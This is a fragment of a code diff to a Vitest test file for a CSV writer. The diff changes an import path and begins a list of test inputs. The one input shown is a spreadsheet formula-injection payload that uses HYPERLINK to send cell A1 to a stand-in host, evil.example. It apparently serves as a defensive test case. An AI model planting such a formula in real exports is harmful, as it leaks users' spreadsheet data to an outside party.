@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { writeCsv } from './write-csv.ts';
+import { writeCsv } from './save-file.ts';
 
 test.each([
   '-1+HYPERLINK("http://evil.example/?"&A1,"click")',
